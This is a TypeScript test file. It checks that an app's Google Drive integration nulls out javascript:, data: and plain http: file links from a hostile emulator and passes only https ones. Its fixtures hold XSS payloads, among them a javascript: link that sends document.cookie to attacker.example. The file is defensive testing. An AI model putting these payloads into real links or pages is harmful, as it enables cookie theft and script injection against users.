/**
 * Links from Drive are data (D37): whatever Drive (here the emulator, made hostile) sends
 * as webViewLink / webContentLink, only https links leave the server, in the file calls and in
 * the sources of answers.
 */
import { eq } from 'drizzle-orm'
import { expect, test } from 'vitest'
import { driveEndpoints } from '#contracts/drive.ts'
import type { App } from '#server/app.ts'
import { documents } from '#server/db/schema.ts'
import type { GoogleEmulator } from '#tests/fakes/google/emulator.ts'
import { ADA, MIME } from '#tests/fakes/google/fixtures.ts'
import {
  connectDrive,
  getFile,
  ingestOk,
  listFiles,
  newPerson,
  setUpDriveApp,
} from '../support/drive-helpers.ts'

let emulator: GoogleEmulator
let app: App

setUpDriveApp(
  (started) => {
    ;({ emulator, app } = started)
  },
  { resetEachTest: false },
)

test('javascript:, data: and http: links from Drive reach no caller: they answer null; https ones pass', async () => {
  const evil = emulator.state.addFile({
    owner: ADA,
    name: 'evil-links.txt',
    mimeType: MIME.text,
    content: 'The zebra passphrase is OKAPI-44.',
    linkOverrides: {
      webViewLink: 'javascript:fetch("//attacker.example/"+document.cookie)',
      webContentLink: 'data:text/html,<script>alert(1)</script>',
    },
  })
  const plain = emulator.state.addFile({
    owner: ADA,
    name: 'plain-http.txt',
    mimeType: MIME.text,
    content: 'Nothing to see.',
    linkOverrides: { webViewLink: 'http://drive.example/plain', webContentLink: 'JAVASCRIPT:alert(1)' },
  })
  const person = await newPerson(app)
  await connectDrive(app, person, { account: ADA })

  const listed = driveEndpoints.listFiles.response.parse((await listFiles(app, person)).json()).data.files
  for (const id of [evil.id, plain.id]) {
    const file = listed.find((f) => f.id === id)
    expect(file).toMatchObject({ webViewLink: null, webContentLink: null })
  }
  expect(
    listed.filter((f) => f.webViewLink !== null).every((f) => f.webViewLink?.startsWith('https://')),
  ).toBe(true)

  const one = await getFile(app, { ...person, fileId: evil.id })
  expect(driveEndpoints.getFile.response.parse(one.json()).data).toMatchObject({
    webViewLink: null,
    webContentLink: null,
  })

  await ingestOk(app, person)
  const [stored] = await app.db
    .select({ link: documents.link })
    .from(documents)
    .where(eq(documents.externalId, evil.id))
  expect(stored).toEqual({ link: null })
})
